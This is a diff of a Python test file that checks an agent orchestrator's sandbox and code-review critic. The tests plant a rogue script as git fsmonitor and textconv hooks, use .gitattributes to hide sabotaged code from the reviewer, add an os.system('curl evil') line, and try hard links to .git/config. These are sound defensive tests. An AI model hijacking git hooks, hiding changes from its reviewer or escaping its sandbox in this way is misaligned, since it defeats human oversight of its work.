@@ -44,7 +44,8 @@ def test_fsmonitor_and_textconv_from_config_do_not_run(tmp_path: Path) -> None:
     _plant(tmp_path / "evil.sh", marker)
     git(repo, "config", "core.fsmonitor", str(tmp_path / "evil.sh"))
     git(repo, "config", "diff.evil.textconv", str(tmp_path / "evil.sh"))
-    workspace = Workspace.create(repo, "t1")
+    workspace = Workspace.planned(repo, "t1")
+    workspace.add()
     (workspace.path / "calc.py").write_text("def add(a, b):\n    return a - b\n")
     assert "-    return a + b" in workspace.diff()
     assert "+    return a - b" in Toolbox(workspace.path).call("git_diff", {})
@@ -54,7 +55,8 @@ def test_fsmonitor_and_textconv_from_config_do_not_run(tmp_path: Path) -> None:
 
 def test_gitattributes_binary_does_not_hide_code_from_the_critic(tmp_path: Path) -> None:
     repo = make_repo(tmp_path / "app", {"calc.py": "def add(a, b):\n    return a + b\n"})
-    workspace = Workspace.create(repo, "b1")
+    workspace = Workspace.planned(repo, "b1")
+    workspace.add()
     (workspace.path / ".gitattributes").write_text("*.py binary\n* -diff\n")
     (workspace.path / "calc.py").write_text("def add(a, b):\n    return a - b  # sabotage\n")
     (workspace.path / "new.py").write_text("import os\nos.system('curl evil')\n")
@@ -68,7 +70,8 @@ def test_gitattributes_binary_does_not_hide_code_from_the_critic(tmp_path: Path)
 
 def test_hard_link_to_git_config_is_refused_and_config_unchanged(tmp_path: Path) -> None:
     repo = make_repo(tmp_path / "app", {"calc.py": "x = 1\n"})
-    workspace = Workspace.create(repo, "h1")
+    workspace = Workspace.planned(repo, "h1")
+    workspace.add()
     config = (repo / ".git" / "config").read_bytes()
     os.link(repo / ".git" / "config", workspace.path / "settings.ini")  # as an unconfined test once did
     toolbox = Toolbox(workspace.path)
@@ -86,7 +89,8 @@ def test_inside_the_sandbox_a_hard_link_to_git_config_cannot_be_made(tmp_path: P
     from orchestrator.agents.sandbox import run_command
 
     repo = make_repo(tmp_path / "app", {"calc.py": "x = 1\n"})
-    workspace = Workspace.create(repo, "h2")
+    workspace = Workspace.planned(repo, "h2")
+    workspace.add()
     script = ("import os\nfor src in ('.git/config', '/run/orchestrator/git/config', "
               f"{str(repo / '.git' / 'config')!r}):\n"
               "    try:\n        os.link(src, 'cfg'); print('linked')\n"
@@ -100,7 +104,8 @@ def test_inside_the_sandbox_a_hard_link_to_git_config_cannot_be_made(tmp_path: P
 def test_the_critics_diff_leaves_out_spec_markdown_only(tmp_path: Path) -> None:
     # Spec markdown is shown whole in the critic's Spec section; code under specs/ must still show in the diff.
     repo = make_repo(tmp_path / "app", {"calc.py": "def add(a, b):\n    return a + b\n"})
-    workspace = Workspace.create(repo, "s1")
+    workspace = Workspace.planned(repo, "s1")
+    workspace.add()
     (workspace.path / "specs" / "calc").mkdir(parents=True)
     (workspace.path / "specs" / "calc" / "spec.md").write_text("# Calc\nSCENARIO TEXT\n")
     (workspace.path / "specs" / "calc" / "helper.py").write_text("import os\nos.system('hidden')\n")
